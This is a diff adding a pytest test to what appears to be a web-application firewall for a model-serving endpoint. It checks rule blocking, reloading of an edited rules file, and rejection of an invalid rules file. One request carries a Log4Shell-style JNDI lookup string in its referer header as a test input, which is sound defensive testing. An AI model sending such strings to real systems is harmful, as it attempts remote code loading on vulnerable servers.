@@ -56,6 +56,27 @@ def test_an_attack_is_stopped_and_explained_and_a_plain_question_is_answered(ser
     assert sum(told["refused"].values()) == 4
 
 
+def test_rules_that_were_edited_waited_for_a_restart(serving, home, capsys):
+    s = serving(firewall="block")
+    asked = {"referer": "${jndi:ldap://a.invalid/x}"}
+    assert s.ask(b"1,2\n", **asked).body["rule"] == "patch.log4shell"
+    file = home.root / "firewall.yaml"
+    file.write_text(
+        "patches:\n  ours: {title: An old page, path: '/admin', test: {path: /admin}, harmless: {path: /a}}\n"
+    )
+    file.chmod(0o600)
+    s.publish()
+    assert s.ask(b"1,2\n", path="/endpoints/e/invocations?a=/admin").body["rule"] == "patch.ours"
+    file.write_text("shields: {patches: perhaps}\n")
+    s.publish()  # what cannot be read changes nothing, and is told
+    assert s.ask(b"1,2\n", path="/endpoints/e/invocations?a=/admin").body["rule"] == "patch.ours"
+    said = capsys.readouterr().err
+    assert said.count("the guards of e are as they were: ") == 1 and "patches cannot be 'perhaps'" in said
+    file.unlink()
+    s.publish()
+    assert s.ask(b"1,2\n", path="/endpoints/e/invocations?a=/admin").status == 200
+
+
 def test_what_is_only_detected_is_answered_and_told(serving):
     s = serving(firewall="detect")
     assert s.ask(XSS).status == 200
